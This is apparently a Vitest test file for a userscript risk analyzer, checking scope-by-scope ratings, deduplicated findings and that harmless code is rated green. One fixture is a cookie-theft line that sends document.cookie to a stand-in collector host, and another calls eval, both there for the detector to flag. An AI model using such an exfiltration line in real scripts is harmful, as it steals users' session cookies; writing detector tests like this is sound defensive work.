import { describe, expect, test } from "vitest";
import { analyzeScript } from "./analyze-script.ts";
import { userscript } from "./testing/find-in.ts";
import { scopeVariants } from "./testing/scope-variants.ts";

const SITE = "match https://shop.example/*";

describe("a script is rated in every scope in which something runs it", () => {
	test.each(scopeVariants)("$title", ({ code, isProgramOnly }) => {
		const forms = [code, userscript([SITE, "unwrap"], code)];
		if (!isProgramOnly)
			forms.push(userscript([SITE, "grant none"], code), userscript([SITE, "grant GM_setValue"], code));
		expect(forms.filter((form) => analyzeScript({ code: form }).risk_level === "green")).toEqual([]);
	});

	test("findings and abilities of all scopes are in the result, each once", () => {
		const code = "var k = 1; if (!window.k) eval(String(k)); else localStorage.setItem('a', '1');";
		const { capabilities } = analyzeScript({ code });
		expect(capabilities.storage).toHaveLength(1);
		expect(capabilities.code_loading).toHaveLength(1);
		const leak = "var a = 1; fetch('https://collector.stranger.test/?c=' + document.cookie);";
		const { vulnerabilities } = analyzeScript({ code: leak });
		expect(vulnerabilities.filter(({ type }) => type === "cookie-exfiltration")).toHaveLength(1);
	});

	test("harmless variables at the top stay harmless", () => {
		const code = "var name = document.title; var status = 'ok'; function show() { alert(name + status); } show();";
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "green", vulnerabilities: [] });
	});
});
